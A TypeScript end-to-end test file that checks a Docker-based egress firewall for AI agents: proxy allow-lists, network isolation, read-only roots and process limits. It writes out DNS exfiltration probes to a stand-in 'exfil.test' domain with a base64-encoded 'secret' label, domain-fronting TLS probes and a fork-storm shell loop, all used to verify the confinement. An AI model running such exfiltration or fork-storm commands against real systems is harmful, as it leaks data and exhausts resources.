/**
 * Docker confinement on a real Docker Engine. A dockerd of its own runs in a network namespace;
 * the networks and containers are created from the synthesized JSON with their real settings
 * (networks, subnets, bridge options, internal flag, addresses, users, capabilities, read-only
 * roots, tmpfs, uploads, limits, env); only the images are stand-ins made locally: busybox-static
 * for the agents, and for the proxy image the stack builds (images/egress-proxy: Debian 12's
 * squid-openssl) one made from this host's squid-openssl, the same Debian package; this machine's
 * Node for the probe's image. A resolver on the namespace's loopback recurses to a stand-in
 * authoritative server for `exfil.test`. From inside each agent: its own proxy works for its own
 * hosts, and other roles' agents, the proxy's other listeners and the host are out of reach.
 * `rapidclaw probe` runs as each role exactly as the stack's `probe_<role>` output says.
 *
 * The one change to what is synthesized: the proxy's squid.conf gets a `hosts_file` line (and the
 * file) so that test names resolve to the stand-in upstream inside the namespace.
 */
import { spawn, spawnSync, type ChildProcess } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { firewallScenario } from "../../examples/firewall-scenario";
import { RapidClawStack } from "../../src";
import { AgentPlatform, type FirewallSpecProps } from "../../src/model/types";
import { AGENT_PROFILE_PATH } from "../../src/plan/agent-environment";
import type { FirewallPlan } from "../../src/plan/plan";
import { synthesize } from "../support/synth";
import { App } from "cdktf";
import { busyboxRoot, DockerEngine, nodeImage, squidRoot } from "./support/docker-engine";
import { replayBuiltImages, replayContainer, replayNetworks } from "./support/docker-replay";
import { connectRequest, printfBytes, probeFrom, type Probe } from "./support/docker-probe";
import { clientHello } from "./support/client-hello";
import { NetAgent } from "./support/net-agent-client";
import { missingPrerequisites, skipLoudly } from "./support/prerequisites";
import { confinedVerdicts, runDockerProbeCommand, verdictsOf } from "./support/probe-run";
import { DEFAULTS } from "../../src/model/defaults";
import { probeOutputName } from "../../src/constructs/probe-outputs";
import { planOf } from "../../src/plan/firewall-spec";
import { PROXY_IMAGE_DIR } from "../../src/plan/proxy-image";
import { packageRoot } from "../../src/terraform/package-files";

const SKIP = skipLoudly("Docker confinement e2e", missingPrerequisites(["ip", "unshare", "dockerd", "docker", "containerd", "runc", "squid", "busybox", "tar", "iptables", "dnsmasq"], { namespaces: true }));

/** The seed fleet plus a second research agent, to show what agents of one role share. */
const SPEC: FirewallSpecProps = (() => {
  const seed = firewallScenario(AgentPlatform.DOCKER);
  const agents = seed.agents ?? [];
  return { ...seed, agents: [...agents, { ...agents.find((a) => a.role === "research_agent")!, name: "openclaw-agent-2" }] };
})();

/** The stand-in upstream (TEST-NET-3), on the namespace's loopback: reachable from the proxy's egress network. */
const UPSTREAM = "203.0.113.10";
const UPSTREAM_BANNER = "upstream-tls-443";
/** A service of the host bound to every address. */
const HOST_PORT = 7000;
const HOST_BANNER = "host-service";
/** Where each stand-in agent listens, as an agent with an HTTP port would. */
const AGENT_PORT = 8080;
const agentBanner = (name: string) => `agent-${name}`;

/**
 * DNS as many hosts offer it: a resolver on the host's loopback (dnsmasq at 127.0.0.53, where
 * systemd-resolved listens), named by the daemon's resolv.conf, recursing for `exfil.test` to a
 * stand-in authoritative server (dnsmasq too), which logs every name it is asked for. Engines
 * before 26 forward a container's queries to such a loopback resolver from the host's namespace,
 * `internal` network or not (CVE-2024-29018).
 */
const RESOLVER = "127.0.0.53";
const AUTHORITY = "203.0.113.54";
const DNSMASQ = ["--keep-in-foreground", "--conf-file=/dev/null", "--no-resolv", "--no-hosts", "--bind-interfaces", "--port=53", "--pid-file", "--user=root", "--log-queries"];

const AGENT_IMAGE = "rapidclaw-test/busybox";
const PROXY_IMAGE = "rapidclaw-test/squid";

describe.skipIf(SKIP)("Docker confinement on a real Docker Engine, replaying the synthesized JSON", () => {
  let engine: DockerEngine | undefined;
  let netAgent: NetAgent | undefined;
  let imageDir: string | undefined;
  let plan: FirewallPlan;
  let builtImages: string[] = [];
  const dnsServers: ChildProcess[] = [];
  const dnsLogDir = mkdtempSync(join(tmpdir(), "rapidclaw-dns-"));
  const dnsLog = (name: string) => (existsSync(join(dnsLogDir, name)) ? readFileSync(join(dnsLogDir, name), "utf8") : "");
  // eslint-disable-next-line @typescript-eslint/no-explicit-any
  let doc: Record<string, any>;
  const addressOf = new Map<string, string>();
  const hellos = new Map<string, Buffer>();
  const hello = (name: string) => printfBytes(hellos.get(name) as Buffer);

  beforeAll(async () => {
    for (const name of ["api.anthropic.com", "arxiv.org", "example.org"]) hellos.set(name, await clientHello(name));
    const stack = new RapidClawStack(new App(), "agent-firewall", SPEC);
    plan = planOf(stack.spec);
    doc = synthesize(stack).doc;

    engine = await DockerEngine.start("rc-docker", { resolver: RESOLVER });
    engine.ns.addAddress(AUTHORITY);
    dnsServers.push(
      spawn("ip", ["netns", "exec", engine.ns.name, "dnsmasq", ...DNSMASQ, `--log-facility=${join(dnsLogDir, "authority.log")}`, `--listen-address=${AUTHORITY}`, "--address=/exfil.test/203.0.113.99"], { stdio: "ignore" }),
      spawn("ip", ["netns", "exec", engine.ns.name, "dnsmasq", ...DNSMASQ, `--log-facility=${join(dnsLogDir, "resolver.log")}`, `--listen-address=${RESOLVER}`, `--server=/exfil.test/${AUTHORITY}`], { stdio: "ignore" }),
    );
    console.info(`Docker confinement e2e: Docker Engine ${engine.version()} in namespace ${engine.ns.name}`);
    engine.ns.addAddress(UPSTREAM);
    netAgent = await NetAgent.start(engine.ns);
    await netAgent.call({ op: "serveTcp", host: UPSTREAM, port: 443, banner: UPSTREAM_BANNER });
    await netAgent.call({ op: "serveTcp", host: "0.0.0.0", port: HOST_PORT, banner: HOST_BANNER });

    imageDir = mkdtempSync(join(tmpdir(), "rapidclaw-images-"));
    engine.importImage(busyboxRoot(imageDir), AGENT_IMAGE);
    engine.importImage(squidRoot(imageDir), PROXY_IMAGE);
    // Under the stock image's name, so that the probe output's command runs as synthesized.
    const node = nodeImage(imageDir);
    engine.importImage(node.root, DEFAULTS.gateway.image, node.changes);

    builtImages = replayBuiltImages(engine, doc, PROXY_IMAGE);
    replayNetworks(engine, doc);
    // eslint-disable-next-line @typescript-eslint/no-explicit-any
    const containers = Object.values<Record<string, any>>(doc.resource.docker_container);
    const proxy = containers.find((c) => c.name === "rapidclaw-egress-proxy") as Record<string, any>;
    const conf = proxy.upload.find((u: { file: string }) => u.file === "/etc/squid/squid.conf");
    const hosts = ["api.anthropic.com", "api.openai.com", "arxiv.org", "example.org"].map((name) => `${UPSTREAM} ${name}`).join("\n") + "\n";
    replayContainer(engine, doc, {
      ...proxy,
      upload: [
        ...proxy.upload.filter((u: unknown) => u !== conf),
        { ...conf, content: `${conf.content}hosts_file /etc/squid/hosts\n` },
        { file: "/etc/squid/hosts", content: hosts, permissions: "0644" },
      ],
    }, { image: builtImages[0] });
    // The agents (named after themselves); the firewall's own proxy-events and its Redis are not replayed here.
    const agents = containers.filter((c) => c !== proxy && !c.name.startsWith("rapidclaw-"));
    for (const agent of agents) {
      replayContainer(engine, doc, agent, { image: AGENT_IMAGE, command: ["sh", "-c", `nc -ll -p ${AGENT_PORT} -e /bin/echo ${agentBanner(agent.name)} & exec sleep 86400`] });
    }
    for (const container of [proxy, ...agents]) {
      const inspect = JSON.parse(engine.docker(["inspect", container.name]).stdout)[0];
      for (const [network, settings] of Object.entries<{ IPAddress: string }>(inspect.NetworkSettings.Networks)) addressOf.set(`${container.name}@${network}`, settings.IPAddress);
      expect(inspect.State.Running, `${container.name} is not running:\n${engine.docker(["logs", container.name], { allowFailure: true }).stderr}`).toBe(true);
    }
  });

  afterAll(async () => {
    for (const server of dnsServers) server.kill();
    rmSync(dnsLogDir, { recursive: true, force: true });
    await netAgent?.stop();
    await engine?.stop();
    if (imageDir) rmSync(imageDir, { recursive: true, force: true });
  });

  const agentsOf = (role: string) => plan.agents.filter((a) => a.role === role);
  const roleOf = (name: string) => plan.roles.find((r) => r.name === name)!;
  const agentAddress = (name: string) => addressOf.get(`${name}@${roleOf(plan.agents.find((a) => a.name === name)!.role).docker!.networkName}`)!;

  it("runs the proxy image the stack builds: Debian 12's squid-openssl, the Squid the other suites run", () => {
    // The stack builds one image, the proxy's, from images/egress-proxy: Debian 12 with squid-openssl.
    expect(builtImages).toEqual(["rapidclaw-egress-proxy:squid-openssl"]);
    const dockerfile = readFileSync(join(packageRoot(), PROXY_IMAGE_DIR, "Dockerfile"), "utf8");
    expect(dockerfile).toMatch(/^FROM debian:bookworm-slim$/m);
    expect(dockerfile).toMatch(/install -y --no-install-recommends squid-openssl /);
    // Its stand-in is this host's squid-openssl, from Debian 12 too: the same package and version.
    expect(readFileSync("/etc/os-release", "utf8")).toMatch(/^VERSION_CODENAME=bookworm$/m);
    const owner = spawnSync("dpkg-query", ["-S", "/usr/sbin/squid"], { encoding: "utf8" }).stdout;
    expect(owner).toMatch(/^squid-openssl: /);
    const version = spawnSync("dpkg-query", ["-W", "-f", "${Version}", "squid-openssl"], { encoding: "utf8" }).stdout;
    expect(version).toMatch(/^5\.7-/);
    // What the proxy container runs: Squid 5.7 built with OpenSSL.
    const squid = engine!.docker(["run", "--rm", "--entrypoint", "squid", builtImages[0], "-v"]).stdout;
    expect(squid).toMatch(/^Squid Cache: Version 5\.7$/m);
    expect(squid).toContain("'--with-openssl'");
    console.info(`Docker confinement e2e: the proxy runs squid-openssl ${version} (${/Version (\S+)/.exec(squid)?.[1]}, --with-openssl)`);
  });

  it("keeps the host's addresses off the agent bridges", () => {
    for (const role of plan.roles) {
      const bridge = role.docker!.bridgeName;
      expect(engine!.ns.ip(["-4", "addr", "show", "dev", bridge]).stdout, bridge).not.toMatch(/inet /);
    }
  });

  it("lets the engine address agents in the upper half of their role's subnet, and a container attached later too", () => {
    for (const agent of plan.agents) {
      const range = roleOf(agent.role).docker!.ipRange;
      const [base, prefix] = range.split("/");
      expect(agentAddress(agent.name).split(".").slice(0, 3).join("."), agent.name).toBe(base.split(".").slice(0, 3).join("."));
      expect(Number(agentAddress(agent.name).split(".")[3]), agent.name).toBeGreaterThanOrEqual(Number(base.split(".")[3]));
      expect(prefix).toBe("25");
    }
    const network = roleOf("research_agent").docker!;
    const attached = engine!.docker(["run", "--rm", "--network", network.networkName, AGENT_IMAGE, "ip", "-4", "-o", "addr", "show", "dev", "eth0"]).stdout;
    const address = /inet (\S+)\//.exec(attached)?.[1] as string;
    expect(Number(address.split(".")[3])).toBeGreaterThanOrEqual(128);
    expect(address).not.toBe(network.proxyAddress);
  });

  it("runs agents as the non-root user with the nproc limit, reading their profile but unable to change it or the root", () => {
    for (const agent of plan.agents) {
      const script = `id -u; ulimit -u; head -c 1 ${AGENT_PROFILE_PATH}; echo; touch ${AGENT_PROFILE_PATH} 2>/dev/null || echo profile-read-only; touch /x 2>/dev/null || echo root-read-only`;
      const out = engine!.docker(["exec", agent.name, "sh", "-c", script]).stdout.trim().split("\n");
      // The role's own uid (the nproc limit counts per uid): agent.user is "<uid>:<uid>".
      expect(out, agent.name).toEqual([agent.user.split(":")[0], "512", "{", "profile-read-only", "root-read-only"]);
    }
  });

  describe.each(["customer_support", "research_agent"])("from an agent of %s", (roleName) => {
    it("its own proxy tunnels to its own hosts only; other roles' agents, the proxy's other listeners and the host are unreachable", () => {
      const role = roleOf(roleName);
      const other = plan.roles.find((r) => r.name !== roleName)!;
      const own = role.docker!;
      const proxyEgress = addressOf.get(`rapidclaw-egress-proxy@rapidclaw-egress`) as string;
      const [agent, ...peers] = agentsOf(roleName);
      const probes: Probe[] = [
        { id: "own-proxy-model-host", host: own.proxyAddress, port: role.proxyPort, send: connectRequest("api.anthropic.com"), then: hello("api.anthropic.com") },
        { id: "own-proxy-arxiv", host: own.proxyAddress, port: role.proxyPort, send: connectRequest("arxiv.org"), then: hello("arxiv.org") },
        { id: "own-proxy-unlisted", host: own.proxyAddress, port: role.proxyPort, send: connectRequest("example.org"), then: hello("example.org") },
        { id: "own-proxy-fronted", host: own.proxyAddress, port: role.proxyPort, send: connectRequest("api.anthropic.com"), then: hello("example.org") },
        { id: "other-proxy-listener", host: other.docker!.proxyAddress, port: other.proxyPort, send: connectRequest("api.anthropic.com") },
        { id: "proxy-egress-address", host: proxyEgress, port: role.proxyPort, send: connectRequest("api.anthropic.com") },
        { id: "upstream-directly", host: UPSTREAM, port: 443 },
        { id: "host-via-own-gateway", host: own.gateway, port: HOST_PORT },
        { id: "host-via-other-gateway", host: other.docker!.gateway, port: HOST_PORT },
        { id: "host-via-egress-gateway", host: proxyEgress.replace(/\.\d+$/, ".1"), port: HOST_PORT },
        { id: "host-loopback-address", host: UPSTREAM, port: HOST_PORT },
        ...agentsOf(other.name).map((a) => ({ id: `other-role-agent-${a.name}`, host: agentAddress(a.name), port: AGENT_PORT })),
        ...peers.map((a) => ({ id: `same-role-agent-${a.name}`, host: agentAddress(a.name), port: AGENT_PORT })),
      ];
      const seen = probeFrom(engine!, agent.name, probes);
      const context = `${agent.name} (${roleName}) saw:\n${[...seen].map(([id, out]) => `  ${id}: ${out}`).join("\n")}`;

      expect(seen.get("own-proxy-model-host"), context).toMatch(new RegExp(`^HTTP/1\\.1 200 .*${UPSTREAM_BANNER}`));
      if (role.allowedHosts.length > 0) expect(seen.get("own-proxy-arxiv"), context).toMatch(new RegExp(`^HTTP/1\\.1 200 .*${UPSTREAM_BANNER}`));
      // Refused CONNECTs are closed unanswered (decided before any answer, so no TLS is terminated).
      else expect(seen.get("own-proxy-arxiv"), context).toBe("");
      expect(seen.get("own-proxy-unlisted"), context).toBe("");
      // An allowed CONNECT whose ClientHello names another host is answered 200, then closed: nothing from upstream.
      expect(seen.get("own-proxy-fronted"), context).toMatch(/^HTTP\/1\.1 200 [^]*$/);
      expect(seen.get("own-proxy-fronted"), context).not.toContain(UPSTREAM_BANNER);
      for (const id of ["other-proxy-listener", "proxy-egress-address", "upstream-directly", "host-via-own-gateway", "host-via-other-gateway", "host-via-egress-gateway", "host-loopback-address"]) {
        expect(seen.get(id), `${id}\n${context}`).toBe("");
      }
      for (const a of agentsOf(other.name)) expect(seen.get(`other-role-agent-${a.name}`), context).toBe("");
      // Agents of one role share a network and reach each other (see the README).
      for (const a of peers) expect(seen.get(`same-role-agent-${a.name}`), context).toBe(`${agentBanner(a.name)} `);
    });
  });

  describe.each(["customer_support", "research_agent"])("rapidclaw probe as %s, run as the stack's output says", (roleName) => {
    it("passes the allowed host and finds every other channel closed, DNS and another TLS name in an allowed CONNECT too", async () => {
      const role = roleOf(roleName);
      const other = plan.roles.find((r) => r.name !== roleName)!;
      const command: string = doc.output[probeOutputName(role.resourceName)].value;
      const run = runDockerProbeCommand(command, { dockerSocket: engine!.socket, description: SPEC, extraArgs: ["--json", "--host-port", String(HOST_PORT), "--timeout-ms", "2000"] });
      const context = JSON.stringify(run.report.channels, null, 1);
      expect(verdictsOf(run.report), context).toEqual(confinedVerdicts(other.name, other.allowedHosts.length > 0, `${role.docker!.gateway}:${HOST_PORT}`));
      // The stand-in upstream greets in plain text: what came back to the ClientHello was its banner, not TLS.
      expect(run.report.channels.find((c) => c.id === "allowed-host")!.detail, context).toBe("proxy answered 200; TLS for api.anthropic.com: the far end answered (ERR_SSL_WRONG_VERSION_NUMBER)");
      // The role's resolver is the container's own loopback: the engine's loopback resolver never hears the name.
      const asked = /^resolve (\S+) /.exec(run.report.channels.find((c) => c.id === "dns-tunnel")!.what)![1];
      expect(dnsLog("resolver.log"), context).not.toContain(asked);
      expect(run.report.failed, context).toBe(0);
      expect(run.status, run.stderr).toBe(0);
    });
  });

  it("reaches the host's service and the upstream from the host itself (the probes above could succeed)", async () => {
    expect(await netAgent!.connectTcp({ host: UPSTREAM, port: HOST_PORT, timeoutMs: 2_000 })).toMatchObject({ outcome: "data", data: HOST_BANNER });
    expect(await netAgent!.connectTcp({ host: UPSTREAM, port: 443, timeoutMs: 2_000 })).toMatchObject({ outcome: "data", data: UPSTREAM_BANNER });
  });

  it("an agent's DNS query for <data>.exfil.test never reaches the authoritative server, which the engine's resolver reaches for a container left with the default", async () => {
    const asked = async (label: string) => {
      await new Promise((r) => setTimeout(r, 1_000));
      return dnsLog("authority.log").includes(label);
    };
    // The channel is real here: from the host, and from a container on a role's internal network
    // left with the engine's default resolver (CVE-2024-29018: what today's agents would get without `dns`).
    engine!.ns.run("busybox", ["nslookup", "from-host.exfil.test", RESOLVER], { allowFailure: true });
    expect(await asked("from-host.exfil.test"), `${dnsLog("resolver.log")}\n${dnsLog("authority.log")}`).toBe(true);
    const network = roleOf("research_agent").docker!.networkName;
    engine!.docker(["run", "--rm", "--network", network, AGENT_IMAGE, "nslookup", "default-resolver.exfil.test"], { allowFailure: true });
    expect(await asked("default-resolver.exfil.test"), `${dnsLog("resolver.log")}\n${dnsLog("authority.log")}`).toBe(true);
    // The agents, as synthesized: through the embedded DNS, and straight at the resolver.
    for (const agent of plan.agents) {
      const label = `c2VjcmV0-${agent.name}`;
      engine!.docker(["exec", agent.workloadName, "nslookup", `${label}.exfil.test`], { allowFailure: true });
      engine!.docker(["exec", agent.workloadName, "nslookup", `${label}-direct.exfil.test`, RESOLVER], { allowFailure: true });
      expect(await asked(label), `${agent.name}: ${dnsLog("authority.log")}`).toBe(false);
    }
  });

  it("logs every decision as a JSON line naming the role of the listener reached", () => {
    const lines = engine!.docker(["logs", "rapidclaw-egress-proxy"]).stdout.split("\n").filter(Boolean);
    const entries = lines.map((line) => JSON.parse(line) as { role: string; client: string; host: string; event: string });
    expect(entries.length).toBeGreaterThan(0);
    // Clients are the agents and the probe's containers, each on its role's /24.
    const subnetOf = (address: string) => address.split(".").slice(0, 3).join(".");
    for (const entry of entries) {
      const role = plan.roles.find((r) => r.docker!.subnet.endsWith("/24") && subnetOf(r.docker!.subnet) === subnetOf(entry.client));
      expect(role, JSON.stringify(entry)).toBeDefined();
      expect(entry.role, JSON.stringify(entry)).toBe(role!.name);
    }
  });

  // Last: the storm's processes live until their sleep ends.
  it("a fork storm spends its own role's process cap: an agent of the same role cannot start a process, another role's agent can", async () => {
    const [stormer, peer] = agentsOf("research_agent");
    const [other] = agentsOf("customer_support");
    const uid = stormer.user.split(":")[0];
    expect(other.user.split(":")[0]).not.toBe(uid);
    engine!.docker(["exec", "-d", stormer.name, "sh", "-c", "i=0; while [ $i -lt 700 ]; do sleep 40 & i=$((i+1)); done; sleep 40"]);
    const count = () => spawnSync("ps", ["-o", "pid=", "-u", uid], { encoding: "utf8" }).stdout.split("\n").filter(Boolean).length;
    for (let i = 0; i < 40 && count() < 500; i++) await new Promise((r) => setTimeout(r, 250));
    expect(count(), "processes of the role's uid: the storm reached the cap (512)").toBeGreaterThanOrEqual(500);
    const starts = (agent: string) => engine!.docker(["exec", agent, "sh", "-c", "sleep 0 & wait && echo started"], { allowFailure: true }).stdout.trim();
    expect(starts(peer.name), `${peer.name} shares ${stormer.name}'s uid and cap`).not.toBe("started");
    expect(starts(other.name), `${other.name} has a uid and cap of its own`).toBe("started");
  });
});
